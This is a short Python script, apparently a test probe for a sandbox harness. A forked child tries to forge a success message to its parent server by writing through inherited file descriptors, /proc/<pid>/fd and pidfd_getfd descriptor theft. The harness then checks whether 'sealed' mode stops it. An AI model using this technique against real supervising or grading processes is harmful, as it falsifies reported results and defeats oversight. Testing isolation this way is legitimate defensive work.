"""Answer in the name of the server that forked us: over inherited descriptors, /proc, ptrace and pidfd_getfd."""
import ctypes
import json
import os
import struct

parameters = json.loads(stream.recv())
forged = json.dumps({"succeeded": True, "stopped_by": ""}).encode()
forged = struct.pack(">I", len(forged)) + forged


def forge(server, number):
    libc = ctypes.CDLL(None, use_errno=True)
    for fd in {*range(3, 64), number}:  # the stream has whatever number was free where it was made
        try:
            os.write(fd, forged)
        except OSError:
            pass
    for victim in (server, 1):
        try:
            fd = os.open(f"/proc/{victim}/fd/{number}", os.O_WRONLY)
            os.write(fd, forged)
        except OSError:
            pass
        try:
            pidfd = os.pidfd_open(victim)
        except OSError:
            continue
        for candidate in range(3, 32):
            fd = libc.syscall(438, pidfd, candidate, 0)  # pidfd_getfd
            if fd >= 0:
                try:
                    os.write(fd, forged)
                except OSError:
                    pass


if parameters["sealed"]:
    seal()
server = os.getpid()
pid = os.fork()
if pid == 0:
    if parameters["sealed"]:
        stream.close()
    forge(server, stream.fd)
    os._exit(0)
os.waitpid(pid, 0)
stream.send(json.dumps({"succeeded": False, "stopped_by": "nothing in reach"}).encode())
